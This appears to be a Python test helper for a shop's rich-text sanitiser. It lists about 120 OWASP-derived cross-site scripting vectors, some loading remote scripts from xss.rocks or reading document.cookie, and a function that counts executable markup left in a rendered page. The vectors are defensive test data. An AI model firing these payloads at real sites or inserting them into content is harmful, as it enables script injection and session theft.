"""Cross-site scripting vectors and the inspection of a page that shows them.

The vectors follow OWASP's XSS filter evasion cheat sheet: script elements, event handlers on
img/svg/body/…, `javascript:` with entities, whitespace and case tricks, `data:` and
`vbscript:` URLs, frames and objects, styles and expressions, broken and nested tags, and
break-outs from attributes, from `<script type="application/ld+json">` and from `<title>`
or `<textarea>`.

`dangers(html)` lists, as a Counter, everything in a page that could run or load code: each
element that is not of the allow-list (shop.richtext), each `on*` attribute, each URL with a
script-capable scheme, each `style` attribute, and each JSON-LD block that does not parse.
A page showing a vector must have no more of any of them than the same page showing harmless
text: then nothing of the vector became live markup.
"""

from __future__ import annotations

import json
import re
from collections import Counter

from bs4 import BeautifulSoup

from shop.richtext import TAGS

XSS_VECTORS: list[str] = [
    # Script elements, plain and disguised.
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<script src=//xss.rocks/xss.js></script>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    '<scr<script>ipt>alert("XSS")</scr</script>ipt>',
    "<script>/*</script><script>*/alert(1)</script>",
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    '<script\x20type="text/javascript">javascript:alert(1);</script>',
    '<script\x0dtype="text/javascript">alert(1)</script>',
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<BODY ONLOAD=alert('XSS')>",
    "<body onpageshow=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<p onclick=alert(1)>click</p>",
    "<a href=https://example.com onmouseover=alert(1)>link</a>",
    "<b onmouseover=alert(1)>bold</b>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    # javascript: URLs with entity, whitespace and case tricks.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72'
    '&#x74&#x28&#x31&#x29">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&#0;script:alert(1)">x</a>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    '<button formaction="javascript:alert(1)">go</button>',
    '<math><a xlink:href="javascript:alert(1)">click</a></math>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    # data: URLs.
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # Frames, objects, base, meta, link.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<object type="text/x-scriptlet" data="http://xss.rocks/scriptlet.html"></object>',
    '<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<link rel=import href="http://xss.rocks/x.html">',
    # Styles and expressions.
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">cover</span>',
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    # Broken, nested and half-open tags.
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<b><i><u><script>alert(1)</script></u></i></b>",
    "<p><a href=https://example.com><img src=x onerror=alert(1)></a></p>",
    "<ul><li><svg><g onload=alert(1)></g></svg></li></ul>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[><script>alert(1)</script>]]>",
    '<a href="https://example.com"><a href="javascript:alert(1)">nested</a></a>',
    # Break-outs from the contexts the text is shown in.
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '"><svg onload=alert(1)>',
    "</script><script>alert(1)</script>",
    '</script><img src=x onerror=alert(1)>{"a":"',
    "</SCRIPT ><script>alert(1)</script>",
    "<!--</script><script>alert(1)//-->",
    "\u2028\u2029</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '\\"};alert(1);//',
    "{{ 7*7 }}<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "srcdoc",
    "background",
    "poster",
    "codebase",
    "dynsrc",
    "lowsrc",
}


def _scheme(value: str) -> str:
    """A URL as a browser reads its scheme: control characters and whitespace dropped."""
    return re.sub(r"[\x00-\x20\x7f]", "", value).lower()


def dangers(html: str) -> Counter:
    """Everything in `html` that could run or load code (see the module's docstring)."""
    soup = BeautifulSoup(html, "html5lib")
    found: Counter = Counter()
    for element in soup.find_all(True):
        name = element.name.lower()
        if name not in TAGS:
            found[("element", name)] += 1
        for attribute, value in element.attrs.items():
            attribute = attribute.lower()
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.startswith("on"):
                found[("handler", name, attribute)] += 1
            if attribute == "style":
                found[("style", name)] += 1
            if attribute in URL_ATTRIBUTES and _scheme(text).startswith(SCRIPT_SCHEMES):
                found[("url", name, attribute, _scheme(text)[:12])] += 1
            if attribute == "http-equiv":
                found[("http-equiv", text.lower())] += 1
    for block in soup.select('script[type="application/ld+json"]'):
        text = block.string or ""
        if "</script" in text.lower():
            found[("json-ld raw </script", text[:40])] += 1
        try:
            json.loads(text)
        except ValueError:
            found[("json-ld unparsable", text[:40])] += 1
    return found


def surviving(page_html: str, baseline: Counter) -> Counter:
    """What `page_html` has that the same page with harmless text has not."""
    return dangers(page_html) - baseline
